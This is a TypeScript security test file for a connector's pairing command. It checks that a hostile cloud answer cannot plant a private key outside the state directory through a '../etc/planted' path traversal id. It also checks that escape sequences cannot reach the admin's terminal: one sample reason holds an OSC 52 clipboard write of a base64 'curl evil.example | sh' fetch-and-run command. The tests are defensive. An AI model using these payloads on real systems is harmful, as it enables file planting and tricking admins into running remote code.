/**
 * Attacker's review of what `connector pair` does with the cloud's answer (src/connector/pair.ts,
 * src/connector/state.ts). The cloud is an adversary in the threat model ("a compromised or buggy
 * cloud"), and the pairing string itself names the cloud: whoever hands an admin a pairing string
 * chooses the server that answers. Each test failed on the code as reviewed. Loopback only: the
 * "cloud" is a plain HTTP server in this process; every file and server is removed afterwards.
 */
import { expect } from 'chai';
import { existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { mintPairingToken } from '../../src/common/pairing-token.js';
import { generateRsaKeyPair } from '../../src/common/pki.js';
import { loadConnectorConfig } from '../../src/connector/config.js';
import { pairConnector } from '../../src/connector/pair.js';
import { ConnectorStateStore } from '../../src/connector/state.js';
import { tempDir } from '../helpers/procs.js';

/** A "cloud" that answers every pairing with `answer` (201). */
async function fakeCloud(answer: Record<string, unknown>): Promise<{ url: string; server: Server }> {
  const server = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      res.writeHead(201, { 'content-type': 'application/json' });
      res.end(JSON.stringify(answer));
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${(server.address() as { port: number }).port}`, server };
}

describe("security review: connector pair and the cloud's answer", function () {
  this.timeout(30_000);
  const dirs: string[] = [];
  const servers: Server[] = [];
  after(async () => {
    for (const s of servers) await new Promise((r) => s.close(r));
    for (const d of dirs) rmSync(d, { recursive: true, force: true });
  });

  function connectorDir(): { dir: string; cfgFile: string } {
    const dir = tempDir('rv-sec-pair-');
    dirs.push(dir);
    mkdirSync(join(dir, 'etc'));
    const cfgFile = join(dir, 'etc', 'connector.json');
    writeFileSync(cfgFile, JSON.stringify({ stateDir: '../state', targets: [] }));
    return { dir, cfgFile };
  }

  it("a connector id in the answer is not used as a path: '../…' does not put the new private key outside the state directory", async () => {
    const { dir, cfgFile } = connectorDir();
    // The answer names the key file: `${connectorId}.key` in the state dir, written before state.json
    // (whose schema would refuse the id) is.
    const cloud = await fakeCloud({ connectorId: '../etc/planted', tenant: 'acme', group: 'default', certificate: 'x', caCertificate: 'x' });
    servers.push(cloud.server);
    const cfg = loadConnectorConfig(cfgFile);
    const err = await pairConnector(cfg, new ConnectorStateStore(cfg.stateDir), mintPairingToken(cloud.url).token).then(
      () => undefined,
      (e: Error) => e,
    );
    // Whatever pair answered, nothing may have been written outside stateDir.
    expect(existsSync(join(dir, 'etc', 'planted.key')), `a private key was written to ${join(dir, 'etc', 'planted.key')}, outside the state directory (pair said: ${err?.message ?? 'paired'})`).to.equal(false);
  });

  it('a replacement reason from the cloud reaches the terminal without control characters', async () => {
    const { cfgFile } = connectorDir();
    const cfg = loadConnectorConfig(cfgFile);
    const state = new ConnectorStateStore(cfg.stateDir);
    // Paired before with this cloud (same origin), so pairing again sends `replaces`.
    const reason = 'no such connector\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2K\u001b[1A\r';
    const cloud = await fakeCloud({ connectorId: 'cn_11111111111111111111', tenant: 'acme', group: 'default', certificate: 'x', caCertificate: 'x', replaces: { connectorId: 'cn_00000000000000000000', revoked: false, reason } });
    servers.push(cloud.server);
    await state.save({ connectorId: 'cn_00000000000000000000', tenant: 'acme', group: 'default', cloudUrl: cloud.url, certificate: 'x', caCertificate: 'x', pairedAt: new Date().toISOString() }, generateRsaKeyPair(2048).privateKeyPem);
    const r = await pairConnector(cfg, state, mintPairingToken(cloud.url).token, { force: true });
    // The CLI prints it as is: `warning: the cloud did not retire the previous identity … (${reason})`
    // on the admin's terminal (OSC 52 writes the clipboard; cursor moves erase the warning).
    expect(r.replaced?.reason, 'the reason keeps terminal escapes').to.not.match(/[\u0000-\u001f\u007f-\u009f]/);
  });
});
